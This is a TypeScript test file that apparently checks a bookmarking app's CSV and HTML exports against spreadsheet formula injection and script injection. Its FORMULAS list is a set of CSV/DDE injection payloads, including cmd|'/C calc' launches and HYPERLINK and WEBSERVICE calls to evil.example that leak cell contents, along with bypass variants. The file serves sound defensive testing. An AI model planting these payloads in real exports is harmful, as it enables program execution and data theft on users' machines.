import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'parse5';
import { expect, test } from 'vitest';
import type { Bookmark } from '../../../lib/papers/bookmark';
import { exportedText } from './exported';
import { bookmarksIn, starred } from './files';
import { NASTY } from './nasty';
import { read } from './reading';

// Gnumeric stands for all spreadsheets: it opens tables without a window (Debian: gnumeric).
const hasSpreadsheet = spawnSync('ssconvert', ['--version']).status === 0;

/** What has run in spreadsheets, or could: functions that ask the web, start programs or tell other cells. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML("http://evil.example/","//a")',
  '=IMAGE("http://evil.example/x.png")',
  '=DDE("cmd";"/C calc";"x")',
  '=EXEC("calc")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  '","=1+1',
  '"\r\n"=1+1',
  '=1+1\r\n=2+2',
  'a;=1+1',
  'a\t=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '%0A=1+1',
  '{=1+1}',
  '=-1',
  '-',
  '=',
];

/** Each formula as every text of a paper that a reader or a site writes. */
const HARMFUL: Bookmark[] = FORMULAS.map((formula, at) => {
  const { paper, annotation } = starred(at + 1, formula);
  const facts = { title: formula, authors: [formula, 'B'], abstract: formula };
  return { paper: { ...paper, ...facts }, annotation: { ...annotation, tags: [formula.trim()] } };
});

/** The cells of a table as a spreadsheet takes them: their text, and whether they are computed. */
function opened(csv: string): { text: string; isFormula: boolean }[] {
  const folder = mkdtempSync(join(tmpdir(), 'asterism-table-'));
  try {
    const [from, to] = [join(folder, 'a.csv'), join(folder, 'a.xml')];
    writeFileSync(from, csv);
    const args = ['--export-type=Gnumeric_XmlIO:sax:0', from, to];
    const { status, stderr } = spawnSync('ssconvert', args, { encoding: 'utf8' });
    if (status !== 0) throw new Error(`ssconvert: ${stderr}`);
    return cellsOf(readFileSync(to, 'utf8'));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

/** A cell with a value has its kind written beside it; one that is computed has not. */
function cellsOf(xml: string): { text: string; isFormula: boolean }[] {
  return [...xml.matchAll(/<gnm:Cell ([^>]*?)(?:\/>|>([\s\S]*?)<\/gnm:Cell>)/g)].map(
    ([, attributes = '', text = '']) => ({
      text,
      isFormula: /\bExprID=/.test(attributes) || !/\bValueType=/.test(attributes),
    }),
  );
}

test.skipIf(!hasSpreadsheet)(
  'a spreadsheet finds text in each cell and no formula (needs gnumeric)',
  async () => {
    const all = [...HARMFUL, ...NASTY];
    const cells = opened(await exportedText('csv', all));
    expect(cells.length).toBeGreaterThan(all.length * 8);
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([]);
    expect(opened('a,=1+1\r\n').map(({ isFormula }) => isFormula)).toEqual([false, true]);
  },
  60_000,
);

test('what would be a formula comes back as it was, guarded or not', async () => {
  const { decoded } = await read(await exportedText('csv', HARMFUL));
  const titles = bookmarksIn(decoded).map(({ paper }) => paper.title);
  const plain = HARMFUL.map(({ paper }) => paper.title.replaceAll('\0', '').replace(/\s+/g, ' '));
  expect(titles).toEqual(plain.map((title) => title.trim()));
});

test('a bookmarks file has no script, no handler and no address but of the web', async () => {
  const text = await exportedText('bookmarks-html', [...HARMFUL, ...NASTY]);
  const names = new Set<string>();
  const visit = (node: object): void => {
    if ('tagName' in node) names.add(String(node.tagName));
    if ('attrs' in node) {
      for (const { name, value } of node.attrs as { name: string; value: string }[]) {
        expect(name).not.toMatch(/^on|^style$|^src/);
        if (name === 'href') expect(value).toMatch(/^https:\/\//);
      }
    }
    if ('childNodes' in node) for (const child of node.childNodes as object[]) visit(child);
  };
  visit(parse(text));
  const known = ['html', 'head', 'meta', 'title', 'body', 'h1', 'h3', 'dl', 'dt', 'dd', 'a', 'p'];
  expect([...names].filter((name) => !known.includes(name))).toEqual([]);
});
